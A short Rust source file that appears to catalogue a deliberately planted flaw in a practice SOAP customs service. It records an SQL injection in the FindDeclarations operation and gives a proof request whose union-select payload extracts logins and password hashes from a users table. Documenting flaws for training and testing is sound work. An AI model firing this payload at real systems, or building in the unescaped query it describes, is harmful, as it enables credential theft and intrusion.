use crate::{
    flaws::{FlawItem, Protocol},
    proof::{
        Expect::{Has, Success},
        raw,
    },
};

/// SQL can be injected into the search for declarations.
pub(crate) static FLAW: FlawItem = FlawItem {
    id: "soap-sql",
    title: "SQL can be injected into the search for declarations",
    owasp: "API8:2019",
    cwe: 89,
    protocol: Protocol::Soap,
    operation: "FindDeclarations",
    what: "The goods are put into the statement as they are.",
    proof: &[raw("ada", "/soap", "text/xml; charset=utf-8", r#"<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:q="urn:quayside:customs"><s:Body><q:FindDeclarations><goods>x' union select id, 1, 1, login, 1, password_hash from users -- </goods></q:FindDeclarations></s:Body></s:Envelope>"#).shows(&[Success, Has("amir")])],
};
